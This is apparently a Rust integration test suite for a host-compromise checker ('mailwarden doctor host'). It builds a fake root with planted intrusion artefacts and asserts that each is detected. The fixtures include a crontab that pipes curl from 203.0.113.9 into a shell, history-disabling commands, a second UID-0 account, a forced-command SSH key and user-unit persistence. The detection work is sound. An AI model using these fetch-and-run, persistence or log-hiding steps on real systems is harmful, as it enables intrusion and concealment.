//! `mailwarden doctor host` on a fake root built in a temp directory with
//! real files — utmp/wtmp/btmp written by `utmpdump -r`, a history linked to
//! /dev/null, a profile that unsets HISTFILE, a second UID-0 user, a fresh
//! authorized_keys with a forced command, a crontab that pipes curl into a
//! shell, an sshd-session log line — and once on the real `/`.

use std::fs;
use std::io::Write as _;
use std::path::Path;
use std::process::{Command, Stdio};

struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

impl Run {
    #[track_caller]
    fn json_lines(&self) -> Vec<serde_json::Value> {
        self.stdout
            .lines()
            .map(|l| {
                serde_json::from_str(l)
                    .unwrap_or_else(|e| panic!("bad JSON line ({e}): {l}\nstderr: {}", self.stderr))
            })
            .collect()
    }
}

fn doctor_host(args: &[&str]) -> Run {
    let out = Command::new(env!("CARGO_BIN_EXE_mailwarden"))
        .args(["doctor", "host"])
        .args(args)
        .env_remove("RUST_LOG")
        .env("TZ", "UTC")
        .stdin(Stdio::null())
        .output()
        .expect("run mailwarden");
    Run {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

fn has_utmpdump() -> bool {
    Command::new("utmpdump")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success())
}

/// Writes a real utmp-format file with `utmpdump -r` from its text dump.
fn utmpdump_write(path: &Path, dump: &str) {
    let out = fs::File::create(path).unwrap();
    let mut child = Command::new("utmpdump")
        .arg("-r")
        .stdin(Stdio::piped())
        .stdout(out)
        .stderr(Stdio::null())
        .spawn()
        .expect("utmpdump");
    child.stdin.take().unwrap().write_all(dump.as_bytes()).unwrap();
    assert!(child.wait().unwrap().success());
}

fn write(root: &Path, rel: &str, text: &str) {
    let p = root.join(rel);
    fs::create_dir_all(p.parent().unwrap()).unwrap();
    fs::write(p, text).unwrap();
}

/// `[TYPE] [PID] [ID] [USER] [LINE] [HOST] [ADDR] [TIME]`, as utmpdump prints.
#[allow(clippy::too_many_arguments)] // one argument per utmpdump column
fn rec(kind: u8, pid: u32, id: &str, user: &str, line: &str, host: &str, addr: &str, time: &str) -> String {
    format!("[{kind}] [{pid:05}] [{id:<4}] [{user:<8}] [{line:<12}] [{host:<20}] [{addr:<15}] [{time}]\n")
}

fn ids(findings: &[serde_json::Value]) -> Vec<(String, String, String)> {
    findings
        .iter()
        .map(|f| {
            (
                f["id"].as_str().unwrap_or("").to_owned(),
                f["severity"].as_str().unwrap_or("").to_owned(),
                f["subject"].as_str().unwrap_or("").to_owned(),
            )
        })
        .collect()
}

#[track_caller]
fn expect(found: &[(String, String, String)], id: &str, severity: &str, subject_contains: &str) {
    assert!(
        found
            .iter()
            .any(|(i, s, subj)| i == id && s == severity && subj.contains(subject_contains)),
        "missing {id} ({severity}) on {subject_contains:?}; found:\n{found:#?}"
    );
}

#[test]
fn fake_root_findings() {
    if !has_utmpdump() {
        eprintln!("SKIPPED: utmpdump (util-linux) is not installed");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let now = jiff::Timestamp::now();
    let stamp = |ago_secs: i64| {
        let t = now - jiff::SignedDuration::from_secs(ago_secs);
        t.strftime("%Y-%m-%dT%H:%M:%S,000000+00:00").to_string()
    };
    fs::create_dir_all(root.join("var/log")).unwrap();
    fs::create_dir_all(root.join("var/run")).unwrap();
    let mut wtmp = rec(
        2,
        0,
        "~~",
        "reboot",
        "~",
        "6.1.0-18-amd64",
        "0.0.0.0",
        &stamp(7200),
    );
    wtmp += &rec(
        7,
        4242,
        "ts/0",
        "root",
        "pts/0",
        "203.0.113.9",
        "203.0.113.9",
        &stamp(3600),
    );
    wtmp += &rec(
        7,
        4243,
        "ts/1",
        "alice",
        "pts/1",
        "2001:db8::7",
        "2001:db8::7",
        &stamp(1800),
    );
    // Outside the 7-day window: not reported.
    wtmp += &rec(
        7,
        100,
        "ts/2",
        "root",
        "pts/2",
        "198.51.100.77",
        "198.51.100.77",
        "2020-02-09T03:01:07,000000+00:00",
    );
    utmpdump_write(&root.join("var/log/wtmp"), &wtmp);
    utmpdump_write(
        &root.join("var/run/utmp"),
        &rec(
            7,
            4243,
            "ts/1",
            "alice",
            "pts/1",
            "2001:db8::7",
            "2001:db8::7",
            &stamp(1800),
        ),
    );
    let mut btmp = String::new();
    for i in 0..3 {
        btmp += &rec(
            6,
            900 + i,
            "",
            "admin",
            "ssh:notty",
            "198.51.100.4",
            "198.51.100.4",
            &stamp(600),
        );
    }
    utmpdump_write(&root.join("var/log/btmp"), &btmp);
    write(
        root,
        "var/log/auth.log",
        &format!(
            "{} mx sshd-session[5150]: Accepted publickey for root from 203.0.113.9 port 52144 ssh2: ED25519 SHA256:abc\n{} mx sshd-session[5151]: Failed password for invalid user oracle from 198.51.100.4 port 4444 ssh2\n",
            (now - jiff::SignedDuration::from_secs(3600)).strftime("%Y-%m-%dT%H:%M:%S%.6f+00:00"),
            (now - jiff::SignedDuration::from_secs(60)).strftime("%Y-%m-%dT%H:%M:%S%.6f+00:00"),
        ),
    );
    write(
        root,
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/bash\nsvc:x:998:998::/nonexistent:/usr/sbin/nologin\n",
    );
    write(root, "root/.bash_history", "ls\nunset HISTFILE\nhistory -c\n");
    write(root, "home/alice/.profile", "# ~/.profile\nunset HISTFILE\n");
    std::os::unix::fs::symlink("/dev/null", root.join("home/alice/.bash_history")).unwrap();
    write(
        root,
        "home/alice/.ssh/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA alice@laptop\ncommand=\"/tmp/.x/run\",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB intruder\n",
    );
    write(
        root,
        "etc/crontab",
        "SHELL=/bin/sh\n*/5 * * * * root curl -s http://203.0.113.9/a.sh | sh\n",
    );
    write(root, "etc/sudoers.d/backup", "backup ALL=(ALL) NOPASSWD: ALL\n");
    write(
        root,
        "etc/systemd/system/updater.timer",
        "[Timer]\nOnCalendar=*:0/10\nUnit=updater.service\n",
    );
    // A user unit: runs at alice's login, no root needed.
    write(
        root,
        "home/alice/.config/systemd/user/sync.service",
        "[Service]\nExecStart=/tmp/.x/run\n",
    );
    // What installing a package does: enable a unit it ships (a link) and
    // add a system account without a login shell — information, not alarm.
    std::fs::create_dir_all(root.join("etc/systemd/system/multi-user.target.wants")).unwrap();
    std::os::unix::fs::symlink(
        "/lib/systemd/system/redis-server.service",
        root.join("etc/systemd/system/multi-user.target.wants/redis-server.service"),
    )
    .unwrap();
    let today = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
        / 86_400;
    write(
        root,
        "etc/shadow",
        &format!("root:*:19000:0:99999:7:::\nalice:$y$j9T$x:{today}:0:99999:7:::\nsvc:!:{today}::::::\n"),
    );

    let run = doctor_host(&["--root", root.to_str().unwrap(), "--json"]);
    assert_eq!(
        run.code, 1,
        "fail findings exit 1\nstdout:\n{}\nstderr:\n{}",
        run.stdout, run.stderr
    );
    let findings = run.json_lines();
    let found = ids(&findings);
    expect(&found, "host.login.root-remote", "warning", "wtmp");
    expect(&found, "host.login.recent", "info", "wtmp");
    expect(&found, "host.session.active", "info", "utmp");
    expect(&found, "host.btmp.failed-logins", "info", "btmp");
    expect(&found, "host.sshd.root-accepted", "warning", "root@203.0.113.9");
    expect(&found, "host.sshd.failed", "info", "sshd");
    expect(&found, "host.user.uid0", "fail", "toor");
    expect(&found, "host.history.devnull", "fail", "home/alice/.bash_history");
    expect(&found, "host.history.disabled", "fail", "home/alice/.profile");
    expect(
        &found,
        "host.history.tamper-command",
        "warning",
        "root/.bash_history",
    );
    expect(&found, "host.ssh.authorized-keys", "info", "authorized_keys");
    expect(
        &found,
        "host.ssh.authorized-keys-changed",
        "warning",
        "authorized_keys",
    );
    expect(
        &found,
        "host.ssh.authorized-keys-command",
        "warning",
        "authorized_keys",
    );
    expect(&found, "host.cron.changed", "warning", "etc/crontab");
    expect(&found, "host.cron.suspicious", "warning", "etc/crontab");
    expect(&found, "host.sudoers.nopasswd", "warning", "sudoers.d/backup");
    expect(&found, "host.systemd.unit-changed", "warning", "updater.timer");
    expect(
        &found,
        "host.systemd.unit-changed",
        "warning",
        "home/alice/.config/systemd/user/sync.service",
    );
    expect(
        &found,
        "host.systemd.unit-changed",
        "info",
        "redis-server.service",
    );
    expect(&found, "host.user.recent", "warning", "alice");
    expect(&found, "host.user.recent", "info", "svc");
    expect(&found, "host.port.not-checked", "info", "procfs");
    expect(&found, "host.package.not-checked", "info", "dpkg");
    // The old root login is outside the window; only one root-remote.
    assert_eq!(
        found.iter().filter(|f| f.0 == "host.login.root-remote").count(),
        1,
        "{found:#?}"
    );
    // Evidence names the path and the values read.
    let root_login = findings
        .iter()
        .find(|f| f["id"] == "host.login.root-remote")
        .unwrap();
    let ev = root_login["evidence"][0].as_str().unwrap();
    assert!(
        ev.contains("var/log/wtmp") && ev.contains("203.0.113.9") && ev.contains("pts/0"),
        "{ev}"
    );
    let btmp = findings
        .iter()
        .find(|f| f["id"] == "host.btmp.failed-logins")
        .unwrap();
    assert!(
        btmp["evidence"][0]
            .as_str()
            .unwrap()
            .contains("3 from 198.51.100.4 (users admin)"),
        "{btmp}"
    );

    // The text report renders the same findings.
    let text = doctor_host(&["--root", root.to_str().unwrap()]);
    assert_eq!(text.code, 1);
    assert!(
        text.stdout.contains("FAIL host.user.uid0  toor"),
        "{}",
        text.stdout
    );
}

#[test]
fn corpus_samples_and_truncated_records() {
    let corpus = Path::new("/work/shared/corpus/host/utmp");
    if !corpus.exists() {
        eprintln!("SKIPPED: {} is absent", corpus.display());
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    fs::create_dir_all(root.join("var/log")).unwrap();
    fs::create_dir_all(root.join("var/run")).unwrap();
    fs::copy(corpus.join("basic32.utmp"), root.join("var/log/wtmp")).unwrap();
    // The aarch64 (400-byte) sample cut inside its last record, as btmp.
    let b64 = fs::read(corpus.join("basic64.utmp")).unwrap();
    fs::write(root.join("var/log/btmp"), &b64[..b64.len() - 100]).unwrap();
    let run = doctor_host(&["--root", root.to_str().unwrap(), "--since", "1000w", "--json"]);
    assert_eq!(run.code, 0, "stdout:\n{}\nstderr:\n{}", run.stdout, run.stderr);
    let findings = run.json_lines();
    let found = ids(&findings);
    expect(&found, "host.login.recent", "info", "wtmp");
    expect(&found, "host.utmp.truncated", "warning", "btmp");
    expect(&found, "host.btmp.failed-logins", "info", "btmp");
    expect(&found, "host.login.not-checked", "info", "utmp");
    let recent = findings.iter().find(|f| f["id"] == "host.login.recent").unwrap();
    assert_eq!(
        recent["message"].as_str().unwrap().split(' ').next(),
        Some("2"),
        "{recent}"
    );
    assert!(recent["evidence"].to_string().contains("upsuper"), "{recent}");
}

#[test]
fn bad_root_is_a_clear_error() {
    let run = doctor_host(&["--root", "/nonexistent/mailwarden-root"]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(
        run.stderr.contains("/nonexistent/mailwarden-root") && run.stderr.contains("--root"),
        "{}",
        run.stderr
    );
}

/// The real host: the run succeeds (0, or 1 when something fails) and finds
/// the listening ports of this machine, e.g. MariaDB on 3306 when it is up.
#[test]
fn real_root_lists_listening_ports() {
    let run = doctor_host(&["--json"]);
    assert!(
        run.code == 0 || run.code == 1,
        "stdout:\n{}\nstderr:\n{}",
        run.stdout,
        run.stderr
    );
    let findings = run.json_lines();
    assert!(
        !findings.iter().any(|f| f["id"] == "host.port.not-checked"),
        "{}",
        run.stdout
    );
    let ports: Vec<&str> = findings
        .iter()
        .filter(|f| f["id"] == "host.port.listening")
        .filter_map(|f| f["subject"].as_str())
        .collect();
    if std::net::TcpStream::connect("127.0.0.1:3306").is_ok() {
        assert!(
            ports.iter().any(|p| p.ends_with(":3306")),
            "MariaDB answers on 3306 but was not listed: {ports:?}"
        );
    } else {
        eprintln!("SKIPPED: nothing listens on 127.0.0.1:3306; ports seen: {ports:?}");
    }
}

/// A journald-only host: sshd's entries are read from a real journal file
/// (written by systemd-journal-remote from the export format) with
/// `journalctl -D … -o json`, including OpenSSH ≥ 9.8's `sshd-session`.
#[test]
fn sshd_logins_from_the_journal() {
    let remote = Path::new("/lib/systemd/systemd-journal-remote");
    if !remote.exists() {
        eprintln!(
            "SKIPPED: systemd-journal-remote is not installed (apt-get install systemd-journal-remote)"
        );
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("root");
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_micros();
    let entry = |i: u128, comm: &str, msg: &str| {
        format!(
            "__REALTIME_TIMESTAMP={}\n__MONOTONIC_TIMESTAMP={}\n_BOOT_ID=0123456789abcdef0123456789abcdef\n\
             _HOSTNAME=mx1\nSYSLOG_IDENTIFIER={comm}\n_COMM={comm}\n_PID={}\nPRIORITY=6\nMESSAGE={msg}\n\n",
            now - 3_600_000_000 + i * 1_000_000,
            i + 1,
            4000 + i
        )
    };
    let mut export = String::new();
    for i in 0..3 {
        export.push_str(&entry(
            i,
            "sshd",
            "Failed password for invalid user admin from 198.51.100.7 port 40022 ssh2",
        ));
    }
    export.push_str(&entry(
        5,
        "sshd-session",
        "Accepted password for root from 203.0.113.9 port 52022 ssh2",
    ));
    export.push_str(&entry(
        6,
        "cron",
        "pam_unix(cron:session): session opened for user root",
    ));
    let export_file = tmp.path().join("export.txt");
    std::fs::write(&export_file, export).unwrap();
    let jdir = root.join("var/log/journal/0123456789abcdef0123456789abcdef");
    std::fs::create_dir_all(&jdir).unwrap();
    let ok = Command::new(remote)
        .arg("-o")
        .arg(jdir.join("system.journal"))
        .arg(&export_file)
        .stderr(Stdio::null())
        .status()
        .expect("systemd-journal-remote");
    assert!(ok.success());
    let root_s = root.display().to_string();
    let r = doctor_host(&["--root", &root_s, "--no-dpkg", "--json", "--all"]);
    let findings: Vec<serde_json::Value> = r
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let found = ids(&findings);
    expect(&found, "host.sshd.root-accepted", "warning", "203.0.113.9");
    assert!(
        found.iter().any(|(id, _, _)| id == "host.sshd.failed"),
        "{found:?}"
    );
    assert!(
        !found.iter().any(|(id, _, _)| id == "host.sshd.not-checked"),
        "{found:?}"
    );
    let root_login = findings
        .iter()
        .find(|f| f["id"] == "host.sshd.root-accepted")
        .unwrap();
    assert!(
        root_login.to_string().contains("journal "),
        "the evidence names the journal: {root_login}"
    );
}

/// wtmpdb's and lastlog2's SQLite databases, created with the tables those
/// tools create (their `CREATE TABLE` statements; Debian 12 has no wtmpdb
/// package to run), the newest session only in the write-ahead log: read from
/// a copy, so the originals keep their bytes and gain no `-shm` file.
#[test]
fn wtmpdb_and_lastlog2_databases() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let now = jiff::Timestamp::now().as_second();
    fs::create_dir_all(root.join("var/lib/wtmpdb")).unwrap();
    fs::create_dir_all(root.join("var/lib/lastlog")).unwrap();
    fs::create_dir_all(root.join("var/log")).unwrap();
    let wtmp = root.join("var/lib/wtmpdb/wtmp.db");
    let db = rusqlite::Connection::open(&wtmp).unwrap();
    let mode: String = db.query_row("PRAGMA journal_mode=WAL", [], |r| r.get(0)).unwrap();
    assert_eq!(mode, "wal");
    db.execute_batch("PRAGMA wal_autocheckpoint=0; CREATE TABLE IF NOT EXISTS wtmp(ID INTEGER PRIMARY KEY, Type INTEGER, User TEXT NOT NULL, Login INTEGER, Logout INTEGER, TTY TEXT, RemoteHost TEXT, Service TEXT) STRICT;")
        .unwrap();
    let usec = |ago: i64| (now - ago) * 1_000_000;
    let ins =
        "INSERT INTO wtmp (Type,User,Login,Logout,TTY,RemoteHost,Service) VALUES (?1,?2,?3,?4,?5,?6,?7)";
    db.execute(
        ins,
        rusqlite::params![
            1,
            "reboot",
            usec(7200),
            None::<i64>,
            "~",
            "6.12.48+deb13-amd64",
            None::<String>
        ],
    )
    .unwrap();
    db.execute(
        ins,
        rusqlite::params![3, "alice", usec(3600), usec(3000), "pts/0", "192.0.2.15", "sshd"],
    )
    .unwrap();
    db.execute(
        ins,
        rusqlite::params![3, "root", usec(600), None::<i64>, "pts/1", "203.0.113.66", "sshd"],
    )
    .unwrap();
    // Kept open: the rows stay in wtmp.db-wal, as on a live host.
    assert!(root.join("var/lib/wtmpdb/wtmp.db-wal").exists());
    let ll = root.join("var/lib/lastlog/lastlog2.db");
    let l = rusqlite::Connection::open(&ll).unwrap();
    l.execute_batch(&format!(
        "CREATE TABLE IF NOT EXISTS Lastlog2(Name TEXT PRIMARY KEY, Time INTEGER, TTY TEXT, RemoteHost TEXT, Service TEXT);
         INSERT INTO Lastlog2 VALUES ('root',{},'pts/1','203.0.113.66','sshd'),('alice',{},'pts/0','192.0.2.15','sshd'),('bob',0,NULL,NULL,NULL);",
        now - 600,
        now - 3600
    ))
    .unwrap();
    drop(l);
    let before: Vec<(std::path::PathBuf, Vec<u8>)> = [
        "var/lib/wtmpdb/wtmp.db",
        "var/lib/wtmpdb/wtmp.db-wal",
        "var/lib/lastlog/lastlog2.db",
    ]
    .iter()
    .map(|p| (root.join(p), fs::read(root.join(p)).unwrap()))
    .collect();

    let run = doctor_host(&["--root", root.to_str().unwrap(), "--json", "--all"]);
    assert!(run.code == 0 || run.code == 1, "stderr: {}", run.stderr);
    let findings = run.json_lines();
    let found = ids(&findings);
    expect(&found, "host.login.root-remote", "warning", "wtmp.db");
    expect(&found, "host.login.recent", "info", "wtmp.db");
    expect(&found, "host.login.root-remote", "warning", "lastlog2.db");
    expect(&found, "host.lastlog.recent", "info", "lastlog2.db");
    let recent = findings.iter().find(|f| f["id"] == "host.login.recent").unwrap();
    assert!(
        recent["message"].as_str().unwrap().starts_with("2 logins"),
        "{recent}"
    );
    let ev = recent["evidence"].to_string();
    assert!(ev.contains("203.0.113.66") && ev.contains("pts/1 (sshd)"), "{ev}");
    assert!(
        !found
            .iter()
            .any(|(id, _, s)| id == "host.login.not-checked" && s.contains("wtmp")),
        "wtmpdb stands in for /var/log/wtmp: {found:?}"
    );
    for (path, bytes) in &before {
        assert_eq!(&fs::read(path).unwrap(), bytes, "{} changed", path.display());
    }
    assert!(!root.join("var/lib/lastlog/lastlog2.db-shm").exists());
    drop(db);

    // A file that is no SQLite database is a finding, not an error.
    fs::write(&ll, b"not a database at all, 32 bytes").unwrap();
    let run = doctor_host(&["--root", root.to_str().unwrap(), "--json"]);
    let found = ids(&run.json_lines());
    expect(&found, "host.logindb.unreadable", "warning", "lastlog2.db");
}
